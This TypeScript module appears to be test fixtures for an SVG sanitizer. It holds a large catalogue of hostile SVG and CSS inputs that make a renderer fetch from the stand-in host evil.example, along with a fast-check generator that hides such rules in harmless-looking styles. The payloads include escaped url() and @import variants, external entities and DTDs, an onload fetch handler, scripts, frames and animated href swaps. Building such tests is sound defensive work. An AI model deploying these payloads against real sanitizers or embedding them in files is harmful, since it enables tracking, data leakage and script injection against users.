import fc from 'fast-check';

/** Where hostile drawings try to fetch something from. */
export const evil = 'https://evil.example/';

export const drawingOf = (inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30">${inside}<rect class="a" width="9" height="9"/></svg>`;

const escaped = (text: string): string =>
  text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`).replace(/\n/g, '&#10;');
const styled = (style: string): string => `<style>${escaped(style)}</style>`;
const attributed = (style: string): string =>
  `<foreignObject width="40" height="30"><div xmlns="http://www.w3.org/1999/xhtml" style="${escaped(style)}">words</div></foreignObject>`;
const html = (tags: string): string =>
  `<foreignObject width="40" height="30"><div xmlns="http://www.w3.org/1999/xhtml">${tags}</div></foreignObject>`;

/** Values that fetch, or did in some browser. */
const fetchingValues = [
  `url(${evil}a)`,
  `url("${evil}a")`,
  `URL( '${evil}a' )`,
  `u\\72l("${evil}a")`,
  `\\75 rl(${evil}a)`,
  `\\000075rl("${evil}a")`,
  `url(//evil.example/a)`,
  `url(https\\3a //evil.example/a)`,
  `url("https:\\/\\/evil.example/a")`,
  `url("https:\\\n//evil.example/a")`,
  `url("#a") , url("${evil}a")`,
  `url("/*") , url("${evil}a") , url("*/")`,
  `url('"/*'), url(${evil}a)`,
  `image("${evil}a")`,
  `image-set("${evil}a" 1x)`,
  `image-set(url("${evil}a") 1x)`,
  `image-set("/*" 1x, "${evil}a" 2x, "*/" 3x)`,
  `-webkit-image-set(url(${evil}a) 1x)`,
  `image-set(linear-gradient(red,red) 1x, "${evil}a" 2x)`,
  `cross-fade(url(#a), url(${evil}a), 50%)`,
  `-webkit-cross-fade(url(${evil}a), url(#a), 50%)`,
  `src("${evil}a")`,
  `src(var(--evil))`,
  `element(url(${evil}a))`,
  `-moz-element(${evil}a)`,
  `paint(${evil}a)`,
  `linear-gradient(red, blue), url(${evil}a)`,
  `var(--none, url(${evil}a))`,
  `url(data:text/html,${evil}a)`,
  `attr(data-evil url, url(${evil}a))`,
  `url("${evil}a" crossorigin(anonymous))`,
  `url(${evil}a`,
  `url("${evil}a`,
];

const properties = [
  ...[
    'background',
    'background-image',
    'border-image',
    'border-image-source',
    'list-style',
    'list-style-image',
  ],
  ...[
    'mask',
    'mask-image',
    '-webkit-mask-image',
    'filter',
    'cursor',
    'content',
    'clip-path',
    'shape-outside',
  ],
  ...['fill', 'stroke', 'marker', 'marker-start', 'offset-path', '--x', 'behavior', '-moz-binding', 'src'],
];

/** Each fetches something in some browser. By what it uses. */
export const hostileDrawings: Record<string, string> = {
  ...Object.fromEntries(
    fetchingValues.map((value) => [`style: ${value}`, attributed(`background: ${value}`)]),
  ),
  ...Object.fromEntries(
    fetchingValues.map((value) => [`sheet: ${value}`, styled(`svg{background: ${value}}`)]),
  ),
  ...Object.fromEntries(
    properties.map((name) => [`property: ${name}`, styled(`svg{${name}: url(${evil}a)}`)]),
  ),
  ...Object.fromEntries(
    ['fill', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor', 'color-profile'].map((name) => [
      `attribute: ${name}`,
      `<path d="M0 0L9 9" ${name}="url(${evil}a#b)"/>`,
    ]),
  ),
  'a string that looks like a comment': styled(`svg{content:"/*";background:url(${evil}a);--y:"*/"}`),
  'a string that looks like the end of one': styled(`/*"*/svg{background:url(${evil}a)}/*"*/`),
  'an import': styled(`@import "${evil}a.css";`),
  'an import of an address': styled(`@import url(${evil}a.css) screen;`),
  'an escaped import': styled(`@\\69mport "${evil}a.css";`),
  'an import behind a comment': styled(`/*"*/@import "${evil}a.css";/*"*/`),
  'an import beside an element in the style': `<style><g>/*</g>@import "${evil}a.css";<g>*/</g></style>`,
  'an import in two sections': `<style><![CDATA[@im]]><!-- --><![CDATA[port "${evil}a.css";]]></style>`,
  'an import by an entity': `<style>&#64;import &#34;${evil}a.css&#34;;</style>`,
  'an import within a layer': styled(`@layer a{@import "${evil}a.css";}@import "${evil}a.css" layer(a);`),
  'a font':
    styled(`@font-face{font-family:x;src:url(${evil}a.woff2)}svg{font-family:x}`) + '<text y="9">a</text>',
  'a font behind one that is inside':
    styled(
      `@font-face{font-family:x;src:url(data:font/woff2;base64,AA==),url("${evil}a.woff2")format("woff2")}text{font-family:x}`,
    ) + '<text y="9">a</text>',
  'a namespace': styled(`@namespace url(${evil}a);svg{background:url(${evil}a)}`),
  'a rule in a rule': styled(
    `svg{color:red;&{background:url(${evil}a)}@media all{background:url(${evil}b)}}`,
  ),
  'a variable': styled(`svg{--x:url(${evil}a);background:var(--x)}`),
  'a property that is registered': styled(
    `@property --x{syntax:"<url>";inherits:false;initial-value:url(${evil}a)}svg{background:var(--x)}`,
  ),
  'a rule of a condition': styled(`@supports (color:red){@media all{svg{background:url(${evil}a)}}}`),
  keyframes: styled(`@keyframes k{from,to{background:url(${evil}a)}}svg{animation:k 9s}`),
  'a bad string': styled(`svg{color:"a\n;background:url(${evil}a)}`),
  'an end of HTML': styled(`<!-- svg{background:url(${evil}a)} -->`),
  'an image': `<image width="9" height="9" href="${evil}a.png"/>`,
  'an older image': `<image width="9" height="9" xlink:href="${evil}a.png"/>`,
  'an image of another prefix': `<image width="9" height="9" xmlns:y="http://www.w3.org/1999/xlink" y:href="${evil}a.png"/>`,
  'an image by a base': `<g xml:base="${evil}"><image width="9" height="9" href="a.png"/></g>`,
  'a use': `<use href="${evil}a.svg#b"/>`,
  'a use of data': `<use href="data:image/svg+xml,x#b"/><image href="${evil}a"/>`,
  'a filter': `<filter id="f"><feImage href="${evil}a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  'a gradient': `<linearGradient id="l" href="${evil}a.svg#b"/><rect width="9" height="9" fill="url(#l)"/>`,
  'a pattern': `<pattern id="p" href="${evil}a.svg#b"/><rect width="9" height="9" fill="url(#p)"/>`,
  'words along a path': `<text><textPath href="${evil}a.svg#b">words</textPath></text>`,
  'a set of an address': `<image width="9" height="9"><set attributeName="href" to="${evil}a.png"/></image>`,
  'a set of an older address': `<image width="9" height="9"><set attributeName="xlink:href" to="${evil}a.png"/></image>`,
  'a set with blanks': `<image width="9" height="9"><set attributeName=" href " to="${evil}a.png"/></image>`,
  'a set of a fill': `<rect width="9" height="9"><set attributeName="fill" to="url(${evil}a.svg#b)"/></rect>`,
  'an animation of a filter': `<rect width="9" height="9"><animate attributeName="filter" dur="9s" values="none;url(${evil}a.svg#b)"/></rect>`,
  'an animation of a style': `<rect width="9" height="9"><animate attributeName="style" dur="9s" to="background:url(${evil}a)"/></rect>`,
  'an animation of a mask': `<rect width="9" height="9"><animate attributeName="mask" dur="9s" from="url(${evil}a#b)" to="none"/></rect>`,
  'a picture of HTML': html(`<img src="${evil}a.png"/>`),
  'pictures of HTML': html(`<img srcset="${evil}a.png 2x"/>`),
  'pictures behind one that is inside': html(
    `<img srcset="data:image/png;base64,AA== 1x, ${evil}a.png 2x"/>`,
  ),
  'pictures behind a comma': html(`<img srcset="data:image/png,, ${evil}a.png 1x"/>`),
  'pictures without blanks': html(`<img srcset="data:image/png;base64,AA== 1x,${evil}a.png 2x"/>`),
  'pictures behind brackets': html(`<img srcset="data:image/png,x (1x,2x), ${evil}a.png 2x"/>`),
  'pictures of sources': html(`<picture><source srcset="${evil}a.png"/><img/></picture>`),
  'the ground of a table': html(
    `<table background="${evil}a.png"><tr><td background="${evil}b.png">a</td></tr></table>`,
  ),
  'the ground of a body': `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" background="${evil}a.png"/></foreignObject>`,
  'a frame': html(`<iframe src="${evil}a"/>`),
  'an object': html(`<object data="${evil}a"/><embed src="${evil}b"/>`),
  'a video': html(`<video src="${evil}a" poster="${evil}b" autoplay="autoplay"/>`),
  'a button of a picture': html(`<input type="image" src="${evil}a"/>`),
  'a link': html(`<link rel="stylesheet" href="${evil}a.css"/>`),
  'a style of HTML': html(`<style>div{background:url(${evil}a)}</style>`),
  'a base': `<foreignObject><base xmlns="http://www.w3.org/1999/xhtml" href="${evil}"/></foreignObject><image width="9" height="9" href="a.png"/>`,
  'a refresh': html(`<meta http-equiv="refresh" content="0;url=${evil}a"/>`),
  'a script': `<script href="${evil}a.js"/>`,
  'a script of HTML': `<script xmlns="http://www.w3.org/1999/xhtml" src="${evil}a.js"/>`,
  'a handler': `<g onload="fetch('${evil}a')"/>`,
  'a formula': `<math xmlns="http://www.w3.org/1998/Math/MathML" href="${evil}a"><mglyph src="${evil}b"/></math>`,
  'an unknown namespace': `<x:x xmlns:x="https://unknown.example/" style="background:url(${evil}a)" x:href="${evil}b"/>`,
  'an included file': `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${evil}a"/>`,
};

/** Whole files that ask for something outside of their root. */
export const hostileProlog: Record<string, string> = {
  'a style sheet of XML': `<?xml-stylesheet href="${evil}a.css"?>${drawingOf('')}`,
  'a transformation': `<?xml-stylesheet type="text/xsl" href="${evil}a.xsl"?>${drawingOf('')}`,
  'a document type': `<!DOCTYPE svg SYSTEM "${evil}a.dtd">${drawingOf('')}`,
  'an entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}a">]>${drawingOf('')}`,
  'an attribute by its type': `<!DOCTYPE svg [<!ATTLIST image href CDATA "${evil}a">]>${drawingOf('<image width="9" height="9"/>')}`,
};

/** Styles that hide, in harmless ones around it, something that fetches. */
export const hostileSheets: fc.Arbitrary<string> = (() => {
  // each is whole: what follows stands where a rule may begin
  const around = fc.constantFrom(
    ...['', '/* " */', "/* ' */", '.b{fill:red}', '.b{content:"/*"}', '.c{content:"*/"}', ".d{content:'\"'}"],
    ...['.e\\/\\*{x:1}', '<!--', '-->', '@media all{.b{x:1}}', ';', '@charset "utf-8";', '.f{--a:{b:"/*"}}'],
    ...[
      '.g{content:"\\"/*"}',
      '.h{content:"\\\n/*"}',
      '.i{background:url(#a)}',
      '.j{background:url("#/*")}',
      '.k{',
    ],
  );
  const value = fc.constantFrom(...fetchingValues);
  const property = fc.constantFrom(...properties);
  const before = fc.constantFrom(
    '',
    'color:red;',
    'content:"/*";',
    '--z:"*/";',
    '/*"*/',
    "--z:'/*';",
    'a:b!c;',
  );
  const rule = fc
    .tuple(property, value, before)
    .map(([name, fetching, first]) => `svg{${first}${name}:${fetching};}`);
  const fetching = fc.oneof(
    rule,
    rule.map((each) => `@media all{${each}}`),
    fc.constantFrom(
      `@import "${evil}a";`,
      `@import url(${evil}a);`,
      `@IMPORT'${evil}a';`,
      `@\\69 mport "${evil}a";`,
    ),
  );
  return fc
    .tuple(fc.array(around, { maxLength: 4 }), fetching, fc.array(around, { maxLength: 3 }))
    .map(([first, hostile, last]) => [...first, hostile, ...last].join(''));
})();

export const drawingWithSheet = (sheet: string): string => drawingOf(styled(sheet));
